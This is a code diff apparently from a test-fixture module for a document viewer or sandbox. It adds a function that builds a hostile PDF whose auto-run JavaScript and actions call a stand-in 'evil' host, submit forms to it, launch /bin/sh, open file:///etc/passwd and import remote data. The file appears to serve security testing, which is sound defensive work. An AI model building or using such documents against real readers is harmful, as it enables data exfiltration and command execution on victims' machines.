@@ -71,6 +71,40 @@ setTimeout(() => { location = '${evil}/self'; }, 1000);
 </script></body></html>`;
 }
 
+/** A document that runs scripts, opens addresses and files, starts programs and sends its form, when it is opened and when its page is. */
+export function hostilePdf({ evil }: Targets): string {
+  const script = ['/stolen-pdf', `${evil}/pdf`]
+    .map(
+      (address) =>
+        `try { app.launchURL('${address}', true) } catch (e) {} try { this.getURL('${address}') } catch (e) {} try { this.submitForm({ cURL: '${address}' }) } catch (e) {} try { app.openDoc('${address}') } catch (e) {}`,
+    )
+    .join(' ');
+  const follow = [
+    '/S /URI /URI (/stolen-pdf-uri)',
+    `/S /URI /URI (${evil}/uri)`,
+    `/S /SubmitForm /F << /FS /URL /F (${evil}/form) >> /Fields [] /Flags 4`,
+    '/S /Launch /F (/bin/sh) /Unix << /F (/bin/sh) >>',
+    '/S /GoToR /F (file:///etc/passwd) /D [0 /Fit]',
+    `/S /ImportData /F (${evil}/data)`,
+  ];
+  const next = follow.reduceRight((rest, action) => `<< ${action}${rest && ` /Next ${rest}`} >>`, '');
+  const objects = [
+    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R /WP 5 0 R >> /Names << /JavaScript << /Names [(a) 5 0 R] >> >> /AcroForm << /Fields [] /NeedAppearances true >> >>',
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O ${next} /C 5 0 R >> /Annots [4 0 R] >>`,
+    `<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A ${next} /AA << /PO 5 0 R /PV 5 0 R /E 5 0 R >> >>`,
+    `<< /S /JavaScript /JS (${script.replace(/[()\\]/g, '\\$&')}) /Next ${next} >>`,
+  ];
+  let text = '%PDF-1.7\n';
+  const places = objects.map((object, index) => {
+    const at = text.length;
+    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
+    return at;
+  });
+  const table = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
+  return `${text}xref\n0 6\n0000000000 65535 f \n${table}trailer << /Size 6 /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`;
+}
+
 /** A site that does what honest ones do: parts of files, and workers that load further files. */
 export const SITE = {
   'site/index.html': `<!doctype html><title>site</title><link rel="stylesheet" href="site.css"><p id="said"></p><script src="site.js"></script>`,
